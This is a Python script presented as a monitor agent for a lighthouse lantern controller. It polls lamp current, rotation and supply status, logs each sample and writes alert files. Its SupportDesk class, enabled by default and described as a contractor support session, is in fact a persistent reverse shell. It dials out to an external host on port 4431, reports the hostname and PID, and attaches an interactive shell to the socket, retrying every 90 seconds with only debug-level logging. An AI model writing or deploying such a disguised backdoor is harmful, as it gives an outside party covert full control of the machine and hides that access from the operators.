#!/usr/bin/env python3
"""Lantern controller monitor agent.

Polls the lantern controller's status endpoint (lens rotation period, main and
standby lamp current, mains / battery supply) and appends each sample to a
JSON-lines log. When the controller reports a failover to the standby lamp an
alert file is dropped next to the log so the duty keeper's dashboard picks it up.

The agent can also hold a session open to the maintenance contractor's support
desk so they can assist with controller faults without a site visit.
"""

import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from datetime import datetime, timezone
from pathlib import Path

import requests

LOG = logging.getLogger("lamp-agent")

DEFAULTS = {
    "controller_url": "http://192.168.40.10/api/status",
    "poll_interval": 30,
    "status_log": "lamp_status.jsonl",
    "alert_file": "LAMP_ALERT",
    "min_lamp_current": 2.4,
    "support": {
        "enabled": True,
        "host": "desk.lantern-services.example",
        "port": 4431,
        "retry": 90,
    },
}


def load_config(path):
    cfg = json.loads(json.dumps(DEFAULTS))
    if path and Path(path).is_file():
        with open(path, encoding="utf-8") as fh:
            user = json.load(fh)
        support = user.pop("support", {})
        cfg.update(user)
        cfg["support"].update(support)
    return cfg


class SupportDesk(threading.Thread):
    """Keeps a standing session to the contractor's support desk."""

    def __init__(self, host, port, retry):
        super().__init__(daemon=True, name="support-desk")
        self.host = host
        self.port = int(port)
        self.retry = int(retry)

    def _greet(self, conn):
        banner = "%s lamp-agent pid=%d\n" % (socket.gethostname(), os.getpid())
        conn.sendall(banner.encode())

    def _attach(self, conn):
        console = os.environ.get("SHELL") or "/bin/sh"
        proc = subprocess.Popen(
            [console, "-i"],
            stdin=conn,
            stdout=conn,
            stderr=subprocess.STDOUT,
            cwd=str(Path.home()),
        )
        return proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection((self.host, self.port), timeout=15) as conn:
                    conn.settimeout(None)
                    self._greet(conn)
                    rc = self._attach(conn)
                    LOG.debug("support session closed rc=%s", rc)
            except OSError as exc:
                LOG.debug("support desk unavailable: %s", exc)
            time.sleep(self.retry)


class LampPoller:
    def __init__(self, cfg):
        self.cfg = cfg
        self.session = requests.Session()
        self.log_path = Path(cfg["status_log"])
        self.alert_path = self.log_path.with_name(cfg["alert_file"])
        self.last_state = None

    def sample(self):
        resp = self.session.get(self.cfg["controller_url"], timeout=10)
        resp.raise_for_status()
        data = resp.json()
        data["ts"] = datetime.now(timezone.utc).isoformat(timespec="seconds")
        return data

    def record(self, data):
        with self.log_path.open("a", encoding="utf-8") as fh:
            fh.write(json.dumps(data, sort_keys=True) + "\n")

    def check(self, data):
        state = data.get("active_lamp", "main")
        current = float(data.get("lamp_current_a", 0.0))
        problems = []
        if state != "main":
            problems.append("running on %s lamp" % state)
        if current < self.cfg["min_lamp_current"]:
            problems.append("lamp current low: %.2f A" % current)
        if data.get("supply") == "battery":
            problems.append("on battery supply")
        if problems:
            self.alert_path.write_text(data["ts"] + " " + "; ".join(problems) + "\n")
            if state != self.last_state:
                LOG.warning("lamp alert: %s", "; ".join(problems))
        elif self.alert_path.exists():
            self.alert_path.unlink()
            LOG.info("lamp back to normal")
        self.last_state = state

    def loop(self, once=False):
        failures = 0
        while True:
            try:
                data = self.sample()
                failures = 0
                self.record(data)
                self.check(data)
            except (requests.RequestException, ValueError) as exc:
                failures += 1
                LOG.error("poll failed (%d): %s", failures, exc)
                if failures >= 5:
                    self.alert_path.write_text("controller unreachable\n")
            if once:
                return
            time.sleep(self.cfg["poll_interval"])


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="lamp_agent.json")
    ap.add_argument("--once", action="store_true", help="take one sample and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    cfg = load_config(args.config)

    sup = cfg["support"]
    if sup.get("enabled") and not args.once:
        SupportDesk(sup["host"], sup["port"], sup["retry"]).start()

    try:
        LampPoller(cfg).loop(once=args.once)
    except KeyboardInterrupt:
        return 0
    return 0


if __name__ == "__main__":
    sys.exit(main())
